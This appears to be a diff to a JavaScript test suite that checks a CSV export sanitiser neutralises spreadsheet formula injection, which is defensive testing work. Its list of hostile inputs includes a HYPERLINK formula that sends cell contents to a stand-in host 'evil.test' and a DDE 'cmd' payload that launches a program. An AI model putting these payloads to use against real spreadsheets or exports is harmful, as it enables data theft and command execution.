@@ -70,7 +70,7 @@ test('editors export all entries as a table with a column for every field of any
   expect(cellsOf((await exported(formId, 'csv')).body)).toHaveLength(3);
 });
 
-test('texts that a spreadsheet would take for formulas are harmless in it [X6]', async () => {
+test('texts that a spreadsheet would take for formulas are harmless in it [FORM-015, X6]', async () => {
   const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("https://evil.test?"&A1)', "=cmd|'/c calc'!A1"];
   for (const text of hostile) expect(harmless(text), JSON.stringify(text)).toBe(`'${text}`);
   for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5']) expect(harmless(text)).toBe(text);
